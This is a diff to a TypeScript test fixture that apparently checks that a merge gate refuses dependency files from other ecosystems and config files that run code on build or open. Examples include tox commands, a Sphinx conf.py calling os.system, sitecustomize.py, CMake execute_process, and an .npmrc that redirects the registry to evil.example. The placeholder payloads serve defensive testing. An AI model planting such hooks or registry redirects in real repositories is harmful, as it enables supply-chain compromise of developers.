@@ -147,6 +147,16 @@ const ADDED: readonly (readonly [letter: string, title: string, path: string, te
   ],
 ];
 
+/** Dependency files of ecosystems that nothing here reads further: by their names, in the letters of the catalogue. */
+const OF_OTHERS: readonly (readonly [letter: string, path: string, text: string])[] = [
+  ["i", "dev-requirements.txt", "x==1.0.0"],
+  ["j", "src/mix.exs", "defmodule X do end"],
+  ["k", "src/greeter.gemspec", 'Gem::Specification.new { |s| s.add_dependency "x" }'],
+  ["l", "src/App.csproj", '<Project><PackageReference Include="x" Version="1" /></Project>'],
+  ["m", "deno.json", '{"imports":{"x":"npm:x@1"}}'],
+  ["n", "environment.yml", "dependencies: [x=1]"],
+];
+
 /** Files that execute or redirect when somebody only looks: never merged without a person, at any depth, in any letters. */
 const STEERING: readonly (readonly [letter: string, path: string, text: string])[] = [
   ["a", ".npmrc", "registry=https://evil.example\nscript-shell=./x"],
@@ -164,6 +174,16 @@ const STEERING: readonly (readonly [letter: string, path: string, text: string])
   ["m", "src/deep/.yarnrc.yml", "yarnPath: ./x.cjs"],
   ["n", "Taskfile.yml", "version: '3'"],
   ["o", "dist/index.js", "export {};"],
+  ["p", "phpunit.xml", '<phpunit bootstrap="x.php"/>'],
+  ["q", "vitest.workspace.ts", "export default [];"],
+  ["r", "src/karma.conf.js", "module.exports = () => {};"],
+  ["s", "tox.ini", "[testenv]\ncommands = touch x"],
+  ["t", "netlify.toml", '[build]\ncommand = "touch x"'],
+  ["u", "Dangerfile", 'system "touch x"'],
+  ["v", "mkdocs.yml", "hooks: [x.py]"],
+  ["w", "docs/conf.py", 'import os\nos.system("touch x")'],
+  ["x", "CMakeLists.txt", "execute_process(COMMAND touch x)"],
+  ["y", "src/sitecustomize.py", 'import os\nos.system("touch x")'],
 ];
 
 function only(path: string): unknown {
@@ -209,6 +229,14 @@ export const DEP: readonly Attack[] = [
       title,
       [write(path, text)],
       letter > "d" && letter < "g" ? "dependencies-refused" : "dependencies-unapproved",
+    ),
+  ),
+  ...OF_OTHERS.map(([letter, path, text]) =>
+    refusedAs(
+      `DEP-02${letter}`,
+      `a dependency file of another ecosystem: ${path}`,
+      [write(path, text)],
+      "dependencies-unapproved",
     ),
   ),
   ...TAMPERED.map(([letter, title, text]) =>
